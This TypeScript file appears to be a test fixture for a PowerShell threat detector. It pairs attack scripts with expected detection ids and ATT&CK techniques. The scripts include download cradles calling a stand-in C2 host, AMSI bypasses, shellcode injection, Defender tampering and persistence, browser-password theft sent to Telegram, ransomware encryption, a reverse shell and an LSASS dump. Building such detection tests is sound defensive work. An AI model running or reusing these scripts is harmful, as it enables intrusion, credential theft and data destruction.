// PowerShell of stagers, thieves and ransomware, in the open and in disguise.
import * as disguise from './disguise-powershell.ts'
import type { HarmfulScript } from './script-case.ts'

const C2 = 'http://c2.example/'
const cradle = (name: string): string => `IEX (New-Object Net.WebClient).DownloadString('${C2}${name}.ps1')`
const saver = (name: string): string =>
  `(New-Object Net.WebClient).DownloadFile('${C2}${name}.exe',"$env:TEMP\\${name}.exe");Start-Process "$env:TEMP\\${name}.exe" -WindowStyle Hidden`

const disguised = Object.entries(disguise)
  .filter(([name]) => !['formatted', 'encodedCommand'].includes(name))
  .map(([name, hide], at): HarmfulScript => {
    const isCradle = at % 2 === 0
    const one = `ps${at}`
    return {
      name: `${isCradle ? 'cradle' : 'download and start'}, ${name}`,
      file: `${name}.ps1`,
      source: hide(isCradle ? cradle(one) : saver(one)),
      ids: ['trace_downloads_and_runs'],
      attack: ['T1105'],
      urls: [`${C2}${one}.${isCradle ? 'ps1' : 'exe'}`],
      ...(isCradle ? {} : { files: [`${one}.exe`], commands: [`${one}.exe`] }),
    }
  })

export const harmfulPowerShell: readonly HarmfulScript[] = [
  ...disguised,
  {
    name: 'an encoded command in a command line',
    file: 'enc.ps1',
    source: disguise.encodedCommand(cradle('enc')),
    ids: ['trace_runs_encoded_powershell', 'trace_hides_powershell', 'trace_downloads_and_runs'],
    urls: [`${C2}enc.ps1`],
  },
  {
    name: 'three layers: encoded command, gzip, replaced marks',
    file: 'nested.ps1',
    source: disguise.encodedCommand(disguise.gzipStream(disguise.replacedMarks(cradle('nest')))),
    ids: ['trace_runs_encoded_powershell', 'trace_downloads_and_runs'],
    urls: [`${C2}nest.ps1`],
  },
  {
    name: 'five layers',
    file: 'onion.ps1',
    source: disguise.base64Text(
      disguise.joinedChars(disguise.deflateStream(disguise.xoredBytes(disguise.concatenated(cradle('onion'))))),
    ),
    ids: ['trace_downloads_and_runs'],
    urls: [`${C2}onion.ps1`],
  },
  {
    name: 'AMSI switched off through its field',
    file: 'amsi.ps1',
    source: `$w=${disguise.formatted('System.Management.Automation.AmsiUtils')};$a=[Ref].Assembly.GetType($w);$f=$a.GetField(('am'+'siIni'+'tFailed'),'NonPublic,Static');$f.SetValue($null,$true);${cradle('amsi')}`,
    ids: ['trace_blinds_script_scanner', 'trace_downloads_and_runs'],
    attack: ['T1562.001'],
    urls: [`${C2}amsi.ps1`],
  },
  {
    name: 'AMSI patched in memory',
    file: 'patch.ps1',
    source: `$k=Add-Type -MemberDefinition '[DllImport("kernel32")]public static extern IntPtr GetProcAddress(IntPtr h,string n);[DllImport("kernel32")]public static extern IntPtr LoadLibrary(string n);[DllImport("kernel32")]public static extern bool VirtualProtect(IntPtr a,UIntPtr s,uint n,out uint o);' -Name K -PassThru
$l=$k::LoadLibrary(("am"+"si.dll"));$p=$k::GetProcAddress($l,("Amsi"+"Scan"+"Buffer"));$o=0;[void]$k::VirtualProtect($p,[uint32]6,0x40,[ref]$o)
$b=[Byte[]](0xB8,0x57,0x00,0x07,0x80,0xC3);[System.Runtime.InteropServices.Marshal]::Copy($b,0,$p,6)`,
    ids: ['trace_blinds_script_scanner'],
    attack: ['T1562.001'],
  },
  {
    name: 'an assembly loaded from the network and called by reflection',
    file: 'load.ps1',
    source: `$b=(New-Object System.Net.WebClient).DownloadData('${C2}l.dll');$a=[System.Reflection.Assembly]::Load($b);$t=$a.GetType('A.B');$m=$t.GetMethod('Run');$m.Invoke($null,@())`,
    ids: ['trace_fetches_further_stage'],
    urls: [`${C2}l.dll`],
  },
  {
    name: 'code in its own memory',
    file: 'mem.ps1',
    source: `$c=@"
[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a,uint s,uint t,uint p);
[DllImport("kernel32.dll")] public static extern IntPtr CreateThread(IntPtr a,uint s,IntPtr f,IntPtr p,uint c,IntPtr i);
"@
$w=Add-Type -memberDefinition $c -Name "W" -namespace N -passthru
[Byte[]]$s=0xfc,0xe8,0x82,0x00,0x00,0x00,0x60,0x89,0xe5,0x31,0xc0,0x64
$x=$w::VirtualAlloc(0,[Math]::Max($s.Length,0x1000),0x3000,0x40)
for($i=0;$i -le ($s.Length-1);$i++){[Runtime.InteropServices.Marshal]::WriteByte([IntPtr]($x.ToInt32()+$i),$s[$i])}
$w::CreateThread(0,0,$x,0,0,0);while(1){Start-Sleep 60}`,
    ids: ['trace_injects_into_process'],
  },
  {
    name: 'defender told to look away, a Run key, a task',
    file: 'stay.ps1',
    source: `Add-MpPreference -ExclusionPath 'C:\\ProgramData';Set-MpPreference -DisableRealtimeMonitoring $true
$p="$env:ProgramData\\svc.ps1";iwr ${C2}svc.txt -OutFile $p
New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'Svc' -Value "powershell -w hidden -ep bypass -f $p" -PropertyType String -Force
$a=New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-w hidden -f $p";$t=New-ScheduledTaskTrigger -AtLogOn;Register-ScheduledTask -TaskName 'Svc' -Action $a -Trigger $t`,
    ids: ['trace_weakens_defences', 'trace_sets_run_key', 'trace_schedules_task', 'trace_fetches_further_stage'],
    attack: ['T1562.001', 'T1547.001', 'T1053.005'],
    urls: [`${C2}svc.txt`],
    registry: ['\\run\\svc'],
  },
  {
    name: 'browser passwords sent to a chat service',
    file: 'steal.ps1',
    source: `$l="$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data";Copy-Item $l "$env:TEMP\\ld.db"
$i=@{user=$env:USERNAME;host=$env:COMPUTERNAME;ip=(irm https://api.ipify.org)}
Invoke-RestMethod -Uri "https://api.telegram.org/bot123456:AAF/sendDocument" -Method Post -Body $i`,
    ids: ['trace_reads_stored_secrets', 'trace_sends_data_out', 'trace_talks_to_throwaway_host'],
    attack: ['T1555.003', 'T1041'],
    urls: ['https://api.telegram.org/bot'],
  },
  {
    name: 'backups destroyed and files encrypted with a note',
    file: 'lock.ps1',
    source: `vssadmin delete shadows /all /quiet
$k=New-Object byte[] 32;$aes=[System.Security.Cryptography.Aes]::Create();$aes.Key=$k
Get-ChildItem $env:USERPROFILE -Recurse -Include *.docx,*.xlsx,*.pdf | ForEach-Object { $b=[IO.File]::ReadAllBytes($_.FullName);$e=$aes.CreateEncryptor().TransformFinalBlock($b,0,$b.Length);[IO.File]::WriteAllBytes($_.FullName+'.locked',$e);Remove-Item $_.FullName }
Set-Content -Path "$env:USERPROFILE\\Desktop\\READ_ME_TO_DECRYPT.txt" -Value 'Your files are encrypted. Pay 0.1 BTC to get the key.'`,
    ids: ['trace_destroys_recovery', 'trace_leaves_ransom_note'],
    attack: ['T1490', 'T1486'],
  },
  {
    name: 'reverse shell',
    file: 'rev.ps1',
    source: `$c=New-Object System.Net.Sockets.TCPClient('203.0.113.9',4444);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$x=([text.encoding]::ASCII).GetBytes($r);$s.Write($x,0,$x.Length)}`,
    ids: ['trace_opens_reverse_shell'],
  },
  {
    name: 'credentials out of memory by a tool of the system',
    file: 'dump.ps1',
    source: `$p=(Get-Process lsass).Id;rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump $p $env:TEMP\\l.dmp full`,
    ids: ['trace_dumps_credentials'],
    attack: ['T1003.001'],
  },
  {
    name: 'a persistent subscription of WMI',
    file: 'wmi.ps1',
    source: `$f=Set-WmiInstance -Class __EventFilter -Namespace root\\subscription -Arguments @{Name='U';EventNamespace='root\\cimv2';QueryLanguage='WQL';Query="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"}
$c=Set-WmiInstance -Class CommandLineEventConsumer -Namespace root\\subscription -Arguments @{Name='U';CommandLineTemplate="powershell -w hidden -ep bypass -c iex(irm ${C2}w)"}
Set-WmiInstance -Class __FilterToConsumerBinding -Namespace root\\subscription -Arguments @{Filter=$f;Consumer=$c}`,
    ids: ['trace_hooks_system_start'],
    attack: ['T1546.003'],
  },
  {
    name: 'a program in base64 written and started',
    file: 'carry.ps1',
    source: `$b='${Buffer.from(`MZ\u0090${'\0'.repeat(120)}a harmless program${'\0'.repeat(300)}`, 'latin1').toString('base64')}';[IO.File]::WriteAllBytes("$env:APPDATA\\svch.exe",[Convert]::FromBase64String($b));Start-Process "$env:APPDATA\\svch.exe"`,
    ids: ['trace_runs_dropped_program'],
    files: ['svch.exe'],
    commands: ['svch.exe'],
  },
  {
    name: 'addresses in a list, tried in turn',
    file: 'list.ps1',
    source: `$u='${C2}a.exe','http://c3.example/b.exe';foreach($x in $u){try{(New-Object Net.WebClient).DownloadFile($x,"$env:PUBLIC\\up.exe");Start-Process "$env:PUBLIC\\up.exe";break}catch{}}`,
    ids: ['trace_downloads_and_runs'],
    urls: [`${C2}a.exe`],
    files: ['up.exe'],
  },
  {
    name: 'a function that decodes, called often',
    file: 'func.ps1',
    source: `function d($s){$o='';for($i=0;$i -lt $s.Length;$i+=2){$o+=[char]([Convert]::ToInt32($s.Substring($i,2),16) -bxor 0x21)};return $o}
$w=New-Object (d '${hexXor('Net.WebClient', 0x21)}');$u=d '${hexXor(`${C2}fn.exe`, 0x21)}';$p=$env:TEMP+(d '${hexXor('\\fn.exe', 0x21)}');$w.DownloadFile($u,$p);Start-Process $p`,
    ids: ['trace_downloads_and_runs'],
    urls: [`${C2}fn.exe`],
    files: ['fn.exe'],
    commands: ['fn.exe'],
  },
]

function hexXor(text: string, key: number): string {
  return Buffer.from([...text].map((char) => char.charCodeAt(0) ^ key)).toString('hex')
}
